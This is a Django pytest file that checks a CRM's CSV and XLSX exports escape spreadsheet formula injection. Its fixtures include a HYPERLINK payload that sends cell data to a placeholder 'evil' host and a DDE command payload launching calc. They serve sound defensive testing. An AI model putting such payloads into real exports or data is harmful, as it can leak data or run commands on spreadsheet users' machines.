"""Every export escapes what a spreadsheet would run as a formula, the same way (crm/spreadsheets.py)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from crm.spreadsheets import EXPORT_FORMATS, XLSX, spreadsheet_cell
from tests.crm.factories import AccountFactory, ContactFactory, InteractionFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil/?"&A1,"x")'


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def export(client, url, format_class, **fields):
    return body(client.post(url, {"format": EXPORT_FORMATS.index(format_class), "resource": 0, **fields}))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("=1+2", "'=1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("+79161234567", "+79161234567"),  # a phone is data
        ("-1250.50", "-1250.50"),
        ("ООО «Ромашка»", "ООО «Ромашка»"),
        (42, 42),
        (None, None),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_made_inert_and_data_is_kept(value, expected):
    assert spreadsheet_cell(value) == expected


def test_the_account_export_as_xlsx_has_no_formula_cells(client, manager):
    AccountFactory(manager=manager, name=HOSTILE)
    client.force_login(manager)

    book = openpyxl.load_workbook(io.BytesIO(export(client, reverse("admin:crm_account_export"), XLSX)))

    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + HOSTILE in [cell.value for cell in cells]


def test_the_contact_export_as_csv_escapes_a_hostile_name(client, manager):
    ContactFactory(account=AccountFactory(manager=manager), last_name="=1+2", first_name="@cmd")
    client.force_login(manager)

    rows = list(
        csv.reader(io.StringIO(export(client, reverse("admin:crm_contact_export"), EXPORT_FORMATS[0]).decode()))
    )

    values = {value for row in rows[1:] for value in row}
    assert {"'=1+2", "'@cmd"} <= values
    assert not {"=1+2", "@cmd"} & values


def test_an_export_of_selected_rows_escapes_too(client, manager):
    interaction = InteractionFactory(account=AccountFactory(manager=manager), subject="+cmd|' /C calc'!A0")
    client.force_login(manager)

    content = export(
        client, reverse("admin:crm_interaction_export"), EXPORT_FORMATS[0], export_items=[interaction.pk]
    ).decode()

    assert "'+cmd|' /C calc'!A0" in content
